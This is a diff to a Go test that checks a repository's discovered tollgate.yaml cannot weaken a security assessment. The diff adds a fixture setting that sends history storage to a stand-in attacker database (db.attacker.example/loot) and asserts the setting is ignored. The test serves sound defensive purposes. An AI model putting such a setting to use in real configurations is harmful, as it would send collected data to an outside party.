@@ -21,6 +21,8 @@ waivers: [policy/waivers.hcl]
 output:
   dir: ../escaped
   formats: [json]
+history:
+  store: postgres://collector@db.attacker.example/loot
 `
 
 // TestDiscoveredConfigCannotWeakenTheAssessment guards that a tollgate.yaml
@@ -47,14 +49,14 @@ func TestDiscoveredConfigCannotWeakenTheAssessment(t *testing.T) {
 		t.Fatalf("file = %q", cfg.File)
 	}
 	c := cfg.Config
-	if c.Gate.FailOn != "high" || c.Gate.Baseline != "" || len(c.Catalogs) != 0 || c.Output.Dir != "tollgate-out" {
+	if c.Gate.FailOn != "high" || c.Gate.Baseline != "" || len(c.Catalogs) != 0 || c.Output.Dir != "tollgate-out" || c.History.Store != "" {
 		t.Errorf("weakening settings applied: %+v", c)
 	}
 	// What does not weaken anything still applies.
 	if len(c.Waivers) != 1 || c.Waivers[0] != filepath.Join(repo, "policy", "waivers.hcl") || strings.Join(c.Output.Formats, ",") != "json" {
 		t.Errorf("other settings lost: %+v", c)
 	}
-	want := []string{"gate.fail_on", "gate.baseline", "catalogs", "output.dir"}
+	want := []string{"gate.fail_on", "gate.baseline", "catalogs", "output.dir", "history.store"}
 	if !slices.Equal(cfg.Ignored, want) {
 		t.Errorf("ignored = %v, want %v", cfg.Ignored, want)
 	}
